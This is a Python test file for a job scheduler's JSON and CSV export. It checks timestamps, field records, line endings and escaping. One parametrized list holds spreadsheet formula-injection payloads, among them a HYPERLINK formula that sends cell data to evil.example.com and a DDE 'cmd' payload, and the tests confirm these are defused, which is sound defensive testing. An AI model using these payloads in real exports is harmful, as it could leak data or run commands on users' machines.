"""Runs and jobs for other programs: JSON, and CSV that no spreadsheet executes."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scheduler.review.records import (
    COLUMNS,
    job_record,
    json_text,
    run_record,
    timestamp,
    write_csv,
    write_json,
)
from worker.ledger import Attempt, Job, JobState, NewJob, NewRun, Run, Source

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

RUN = Run.parse(
    "20260102-030405-0123456789",
    {
        "source": "cli",
        "endpoint": "https://modelarts.example.com",
        "requester": "ann",
        "reason": "night «sweep»",
        "verify": "1",
        "state": "running",
        "total": "3",
        "created_ms": "1767323045678",
        "started_ms": "1767323046000",
        "jobs:deleted": "1",
        "jobs:pending": "2",
    },
)
CALL = Attempt(1_767_323_050_001, 12, 503, "ModelArts.1", "request-1")
LAST_CALL = Attempt(1_767_323_060_002, 34, 200, "", "request-2")


def job(**changes: Any) -> Job:
    record = NewJob("project", "pool-1", "Pool ü", "2022-09-16T03:10:40Z", "f", "expired").record()
    return replace(Job.parse(RUN.run_id, 7, record), **changes)


DONE = job(
    state=JobState.DELETED,
    reason="the pool is gone",
    attempts=(CALL, LAST_CALL),
    nodes={"modelarts.vm.cpu.4ud": 2},
    done_ms=1_767_323_070_000,
)


async def stream(*jobs: Job) -> AsyncIterator[Job]:
    for each in jobs:
        yield each


async def as_csv(*jobs: Job) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    await write_csv(stream(*jobs), out)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


async def as_json(*jobs: Job) -> Any:
    out = io.StringIO(newline="")
    await write_json(RUN, stream(*jobs), out)
    return json.loads(out.getvalue())


def test_a_time_is_iso_8601_in_utc() -> None:
    assert timestamp(1_767_323_045_678) == "2026-01-02T03:04:05.678Z"
    assert timestamp(1) == "1970-01-01T00:00:00.001Z"
    assert timestamp(0) is None


@settings(deadline=None)
@given(st.integers(1, 4_102_444_800_000))
def test_a_time_loses_no_millisecond(at_ms: int) -> None:
    text = timestamp(at_ms)
    assert text is not None
    assert text.endswith(f".{at_ms % 1000:03}Z")


def test_a_run_is_told_whole() -> None:
    assert run_record(RUN) == {
        "run_id": "20260102-030405-0123456789",
        "source": "cli",
        "client": None,
        "selector": None,
        "planned_at": "2026-01-02T03:04:05.678Z",
        "requester": "ann",
        "reason": "night «sweep»",
        "endpoint": "https://modelarts.example.com",
        "state": "running",
        "verify": True,
        "total": 3,
        "done": 1,
        "counts": {"deleted": 1, "pending": 2},
        "created_at": "2026-01-02T03:04:05.678Z",
        "started_at": "2026-01-02T03:04:06.000Z",
        "finished_at": None,
        "cancelled_at": None,
        "braked_at": None,
        "policy": None,
        "projects": [],
        "note": "",
    }


@pytest.mark.parametrize(("most", "percent"), [(None, None), (0, None), (None, 12.5), (7, 100.0)])
def test_a_run_has_the_brakes_that_it_was_given(most: int | None, percent: float | None) -> None:
    new = NewRun(RUN.run_id, Source.CLI, "", max_failures=most, max_failure_percent=percent)
    fields = {name: str(value) for name, value in new.fields().items()}
    later = {"state": "running", "total": "0", "created_ms": "1"}
    run = Run.parse(RUN.run_id, fields | later)
    assert (run.max_failures, run.max_failure_percent) == (most, percent)


def test_a_job_is_told_with_each_of_its_calls() -> None:
    assert job_record(DONE) == {
        "job_id": "20260102-030405-0123456789/7",
        "project_id": "project",
        "pool_name": "pool-1",
        "name": "Pool ü",
        "outcome": "deleted",
        "reason": "the pool is gone",
        "chosen": "expired",
        "pool_created_at": "2022-09-16T03:10:40Z",
        "nodes": {"modelarts.vm.cpu.4ud": 2},
        "attempts": [
            {
                "at": "2026-01-02T03:04:10.001Z",
                "duration_ms": 12,
                "status": 503,
                "error_code": "ModelArts.1",
                "request_id": "request-1",
            },
            {
                "at": "2026-01-02T03:04:20.002Z",
                "duration_ms": 34,
                "status": 200,
                "error_code": None,
                "request_id": "request-2",
            },
        ],
        "due_at": None,
        "ended_at": "2026-01-02T03:04:30.000Z",
    }


@pytest.mark.parametrize("count", [0, 1, 3])
async def test_json_is_one_object_whatever_the_number_of_jobs(count: int) -> None:
    jobs = [replace(DONE, number=number) for number in range(count)]
    found = await as_json(*jobs)
    assert found == {"run": run_record(RUN), "jobs": [job_record(each) for each in jobs]}


async def test_csv_has_a_line_for_each_job_with_its_last_call() -> None:
    first, second = await as_csv(DONE, job())
    assert tuple(first) == COLUMNS
    assert first == {
        "job_id": "20260102-030405-0123456789/7",
        "project_id": "project",
        "pool_name": "pool-1",
        "name": "Pool ü",
        "outcome": "deleted",
        "reason": "the pool is gone",
        "chosen": "expired",
        "attempts": "2",
        "status": "200",
        "error_code": "",
        "request_id": "request-2",
        "ended_at": "2026-01-02T03:04:30.000Z",
    }
    assert (second["outcome"], second["attempts"], second["status"]) == ("pending", "0", "")


async def test_csv_lines_end_as_rfc_4180_says() -> None:
    out = io.StringIO(newline="")
    await write_csv(stream(DONE), out)
    assert out.getvalue().endswith("\r\n")
    assert out.getvalue().count("\r\n") == 2


FORMULAS = [
    '=HYPERLINK("https://evil.example.com?"&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    "=",
]


@pytest.mark.parametrize("text", FORMULAS)
async def test_what_a_spreadsheet_takes_for_a_formula_is_made_text(text: str) -> None:
    (row,) = await as_csv(
        job(
            pool_name=text,
            display_name=text,
            reason=text,
            chosen=text,
            attempts=(replace(CALL, code=text, request_id=text),),
        )
    )
    for column in ("pool_name", "name", "reason", "chosen", "error_code", "request_id"):
        assert row[column] == "'" + text


@pytest.mark.parametrize(
    "text",
    ["a=b", "1-2", "a,b", 'say "hello"', "two\nlines", "a;=1+1", "a\r\n=1+1", "'quoted'", "ü 池"],
)
async def test_any_other_text_is_left_as_it_is(text: str) -> None:
    (row,) = await as_csv(job(display_name=text, reason=text))
    assert (row["name"], row["reason"]) == (text, text)


@settings(deadline=None)
@given(
    st.text() | st.sampled_from("=+-@\t\r\n＝＋－＠").flatmap(lambda c: st.text().map(c.__add__))
)
async def test_every_text_survives_and_none_is_a_formula(text: str) -> None:
    (row,) = await as_csv(job(display_name=text))
    assert row["name"].removeprefix("'") == text.removeprefix("'")
    assert not row["name"].startswith(tuple("=+-@\t\r\n＝＋－＠"))


@settings(deadline=None)
@given(st.text(), st.text())
async def test_every_text_survives_in_json(name: str, reason: str) -> None:
    (found,) = (await as_json(job(display_name=name, reason=reason)))["jobs"]
    assert (found["name"], found["reason"]) == (name, reason)


def test_no_control_character_reaches_a_terminal_by_json() -> None:
    raw = "a\x7f\x9b31m\x1b[0mü\n"
    text = json_text({"reason": raw})
    assert not any(ord(each) < 32 or 0x7F <= ord(each) <= 0x9F for each in text)
    assert json.loads(text) == {"reason": raw}
